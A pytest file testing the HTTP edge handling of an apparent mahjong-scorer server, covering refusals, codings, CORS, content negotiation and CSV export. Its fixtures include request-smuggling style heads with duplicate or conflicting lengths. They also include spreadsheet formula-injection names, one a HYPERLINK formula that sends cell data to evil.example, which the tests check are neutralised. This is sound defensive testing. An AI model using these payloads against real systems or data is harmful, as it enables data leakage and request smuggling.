"""The HTTP edges, as the README's ``mahjong-scorer serve`` answers them over raw sockets: every one
a problem+json with ``X-Request-ID`` (the server's own refusals included) or an answer the spec
lists; CORS that a shared cache cannot mix up; content negotiation by media type; the body's codings
refused by name; a standings CSV a spreadsheet will not run.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import socket
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest

from testkit import serving
from testkit.serving import SCORE_BODY, Served, server, statuses

ORIGIN = "https://game.example"
HEAD = b"POST /v1/score HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with server(tmp_path_factory.mktemp("edges"), {"SCORER_CORS_ORIGINS": ORIGIN}) as g:
        yield g
    log = g.log()
    assert "Traceback" not in log, log[-3000:]


# a request on a new connection, read until the server closes it (a hang fails; a reset ends the read)
exchange = partial(serving.exchange, tolerate_reset=True)


def parts(raw: bytes) -> tuple[int, dict[str, str], bytes]:
    """The first answer in ``raw``: status, headers (lower-case names, repeated ones joined), body."""
    head, _, rest = raw.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers: dict[str, str] = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        key = name.strip().lower()
        headers[key] = f"{headers[key]}, {value.strip()}" if key in headers else value.strip()
    length = int(headers.get("content-length", "0"))
    return int(lines[0].split()[1]), headers, rest[:length]


def problem(raw: bytes, status: int, code: str) -> dict[str, object]:
    got, headers, body = parts(raw)
    assert got == status, raw[:400]
    assert headers.get("content-type") == "application/problem+json", raw[:400]
    assert re.fullmatch(r"[0-9a-f]{32}", headers.get("x-request-id", "")), raw[:400]
    out: dict[str, object] = json.loads(body)
    assert out["status"] == status and out["type"] == f"/problems/{code}", out
    return out


def post(body: bytes, *headers: bytes, path: bytes = b"/v1/score") -> bytes:
    return (b"POST " + path + b" HTTP/1.1\r\nHost: t\r\nConnection: close\r\n" + b"".join(h + b"\r\n" for h in headers)
            + b"Content-Length: %d\r\n\r\n" % len(body) + body)


JSON_TYPE = b"Content-Type: application/json"


# --- the server's own refusals, as problems -----------------------------------------------------------
@pytest.mark.parametrize("data", [
    pytest.param(HEAD + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}", id="duplicate-content-length"),
    pytest.param(HEAD + b"Content-Length: 2, 2\r\n\r\n{}", id="content-length-list"),
    pytest.param(HEAD + b"Transfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n2\r\n{}\r\n0\r\n\r\n", id="te-and-cl"),
    pytest.param(HEAD + b"Bad Header: 1\r\nContent-Length: 2\r\n\r\n{}", id="bad-header-name"),
    pytest.param(b"GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n", id="no-host"),
])
def test_a_head_the_server_refuses_is_a_400_problem(served: Served, data: bytes) -> None:
    raw = exchange(served.port, data)
    problem(raw, 400, "bad-request")
    assert parts(raw)[1]["connection"] == "close"


@pytest.mark.parametrize("coding", [b"gzip, chunked", b"deflate, chunked", b"compress, chunked", b"foo, chunked"])
def test_a_transfer_coding_other_than_chunked_is_a_501_problem(served: Served, coding: bytes) -> None:
    body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(SCORE_BODY), SCORE_BODY)
    raw = exchange(served.port, HEAD + b"Transfer-Encoding: " + coding + b"\r\n\r\n" + body)
    assert "transfer coding" in str(problem(raw, 501, "not-implemented")["detail"]).lower()


def test_a_request_line_too_long_is_a_414_problem(served: Served) -> None:
    raw = exchange(served.port, b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: t\r\n\r\n")
    problem(raw, 414, "uri-too-long")


# --- codings and charsets of the body ------------------------------------------------------------------
@pytest.mark.parametrize(("body", "header", "named"), [
    pytest.param(gzip.compress(SCORE_BODY), b"Content-Encoding: gzip", "gzip", id="gzip"),
    pytest.param(SCORE_BODY, b"Content-Encoding: br", "br", id="br-on-a-plain-body"),
    pytest.param(SCORE_BODY.decode().encode("utf-16"), b"", "utf-16", id="utf-16"),
])
def test_a_body_in_a_coding_or_charset_not_read_is_a_415_naming_it(served: Served, body: bytes, header: bytes,
                                                                   named: str) -> None:
    ctype = b"Content-Type: application/json; charset=utf-16" if named == "utf-16" else JSON_TYPE
    raw = exchange(served.port, post(body, ctype, *([header] if header else [])))
    detail = str(problem(raw, 415, "unsupported-media-type")["detail"])
    assert named in detail and ("UTF-8" in detail or "identity" in detail), detail


def test_utf8_named_as_a_charset_is_read(served: Served) -> None:
    raw = exchange(served.port, post(SCORE_BODY, b"Content-Type: application/json; charset=UTF-8"))
    assert parts(raw)[0] == 200


# --- routing, negotiation, OPTIONS ----------------------------------------------------------------------
@pytest.mark.parametrize("data", [
    pytest.param(post(SCORE_BODY, JSON_TYPE, path=b"//v1/score"), id="post-//v1/score"),
    pytest.param(b"GET ///v1/rulesets HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n", id="get-///v1/rulesets"),
])
def test_a_path_with_an_empty_segment_is_a_404(served: Served, data: bytes) -> None:
    problem(exchange(served.port, data), 404, "not-found")


LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
STANDINGS = {"sessions": [{"players": [{"name": n, "score": s} for n, s in
                                       zip([LINK, " =1+1", "@SUM(A1)", "Dana"], [40, 20, -10, -50], strict=True)]}],
             "players": [{"name": LINK, "ema_number": "+123",
                          "member": "-MEM", "country": "=CN"},
                         {"name": " =1+1"}, {"name": "@SUM(A1)"}, {"name": "Dana", "country": "HK"}]}


@pytest.mark.parametrize(("accept", "csv_"), [
    (b"text/csv", True), (b"text/csv; charset=utf-8", True), (b"text/csv;q=0.9, application/json;q=0.5", True),
    (b"application/json", False), (b"*/*", False),
])
def test_standings_are_negotiated_by_media_type_and_say_vary_accept(served: Served, accept: bytes, csv_: bool) -> None:
    status, headers, _ = parts(exchange(served.port, post(json.dumps(STANDINGS).encode(), JSON_TYPE,
                                                         b"Accept: " + accept, path=b"/v1/standings")))
    assert status == 200
    assert headers["content-type"].startswith("text/csv" if csv_ else "application/json"), headers
    assert "accept" in [v.strip().lower() for v in headers["vary"].split(",")], headers


def test_a_standings_csv_neutralises_formulas(served: Served) -> None:
    raw = exchange(served.port, post(json.dumps(STANDINGS).encode(), JSON_TYPE, b"Accept: text/csv",
                                     path=b"/v1/standings"))
    status, _, body = parts(raw)
    assert status == 200
    rows = list(csv.reader(io.StringIO(body.decode())))
    cells = [c for row in rows[1:] for c in (row[1], row[2], row[5], row[6])]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@"))], rows
    by_name = {row[1]: row for row in rows[1:]}
    assert "'=1+1" in by_name and "'@SUM(A1)" in by_name and "Dana" in by_name
    assert by_name["'" + LINK][2:] == ["'+123", "4", "40", "'-MEM", "'=CN"]


def test_options_is_a_204_with_allow_and_no_body(served: Served) -> None:
    raw = exchange(served.port, b"OPTIONS /v1/score HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
    status, headers, body = parts(raw)
    assert status == 204 and body == b"" and "content-type" not in headers, raw[:400]
    assert set(headers["allow"].replace(" ", "").split(",")) == {"POST", "OPTIONS"}


# --- CORS ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("origin", [None, ORIGIN, "https://other.example"])
def test_cacheable_cors_answers_vary_on_origin_whoever_asks(served: Served, origin: str | None) -> None:
    extra = f"Origin: {origin}\r\n".encode() if origin else b""
    status, headers, _ = parts(exchange(served.port, b"GET /v1/rulesets HTTP/1.1\r\nHost: t\r\nConnection: close\r\n"
                                        + extra + b"\r\n"))
    assert status == 200 and headers["cache-control"].startswith("public")
    assert "origin" in [v.strip().lower() for v in headers["vary"].split(",")], headers
    allowed = headers.get("access-control-allow-origin")
    assert allowed == ORIGIN if origin == ORIGIN else allowed in (None, ORIGIN)  # never the asker's own


def test_a_preflight_allows_only_the_methods_the_routes_have(served: Served) -> None:
    raw = exchange(served.port, b"OPTIONS /v1/score HTTP/1.1\r\nHost: t\r\nConnection: close\r\nOrigin: "
                   + ORIGIN.encode() + b"\r\nAccess-Control-Request-Method: POST\r\n\r\n")
    status, headers, _ = parts(raw)
    assert status == 204 and headers["access-control-allow-origin"] == ORIGIN
    methods = set(headers["access-control-allow-methods"].replace(" ", "").split(","))
    assert "POST" in methods and methods <= {"GET", "HEAD", "POST", "OPTIONS"}


# --- connections ----------------------------------------------------------------------------------------
def test_connection_listing_close_closes_the_connection(served: Served) -> None:
    raw = exchange(served.port, b"GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: keep-alive, close\r\n\r\n", timeout=3)
    status, headers, _ = parts(raw)
    assert status == 200 and headers["connection"] == "close"


def test_expect_100_continue_over_the_limit_gets_its_413_at_once(served: Served) -> None:
    with socket.create_connection(("127.0.0.1", served.port), timeout=5) as s:
        s.sendall(HEAD + b"Expect: 100-continue\r\nContent-Length: 2000000\r\n\r\n")
        raw = b""
        while b"\r\n\r\n" not in raw:
            raw += s.recv(65536)
        assert statuses(raw)[:1] == [413], raw[:300]  # no 100 Continue first
        status, headers, _ = parts(raw)
        assert headers["connection"] == "close"


def refused_before_continue(port: int, *headers: bytes) -> tuple[int, dict[str, str]]:
    """A head that asks for ``100 Continue``, then nothing: the first answer (a wait for a body the
    server invited fails the read)."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(b"POST /v1/score HTTP/1.1\r\nHost: t\r\nExpect: 100-continue\r\nContent-Length: 200\r\n"
                  + b"".join(h + b"\r\n" for h in headers) + b"\r\n")
        raw = b""
        while b"\r\n\r\n" not in raw:
            raw += s.recv(65536)
    status, got, _ = parts(raw)
    return status, got


def test_expect_100_continue_with_a_media_type_not_read_gets_its_415_at_once(served: Served) -> None:
    status, headers = refused_before_continue(served.port, b"Content-Type: text/plain")
    assert status == 415 and headers["connection"] == "close"  # no 100 Continue first


def test_expect_100_continue_with_a_wrong_key_gets_its_401_at_once(tmp_path: Path) -> None:
    with server(tmp_path, {"SCORER_API_KEYS": "the-right-key"}, workers=1) as g:
        status, headers = refused_before_continue(g.port, JSON_TYPE, b"Authorization: Bearer wrong")
        assert (status, headers["connection"]) == (401, "close")  # no 100 Continue first
        status, _ = refused_before_continue(g.port, JSON_TYPE, b"Authorization: Bearer the-right-key")
        assert status == 100


# --- depth --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("inner", [b"1", b"12345678901234567890"])
def test_nesting_under_the_documented_depth_is_judged_by_its_field(served: Served, inner: bytes) -> None:
    depth = 980
    body = b'{"hand": ' + b"[" * depth + inner + b"]" * depth + b"}"
    problem(exchange(served.port, post(body, JSON_TYPE)), 422, "validation-error")
